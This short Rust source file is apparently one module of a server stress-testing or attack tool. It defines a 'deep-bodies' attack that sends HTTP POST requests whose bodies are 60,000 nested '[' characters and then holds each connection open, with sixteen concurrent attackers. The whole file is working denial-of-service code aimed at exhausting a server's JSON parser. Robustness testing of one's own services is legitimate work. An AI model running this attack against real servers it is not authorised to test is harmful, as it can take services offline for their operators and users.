//! Sends lists in lists in lists.

use super::{Attack, WITH_BODIES};
use crate::aim::Aim;
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "deep-bodies",
    about: "Sends lists in lists in lists",
    targets: WITH_BODIES,
    attackers: 16,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let deep = "[".repeat(60_000);
    let head = format!("{}connection: close\r\ncontent-length: {}\r\n\r\n", aim.requests.any_post(), deep.len());
    stream.write_all(format!("{head}{deep}").as_bytes()).await?;
    aim.hold(stream).await;
    Ok(())
}
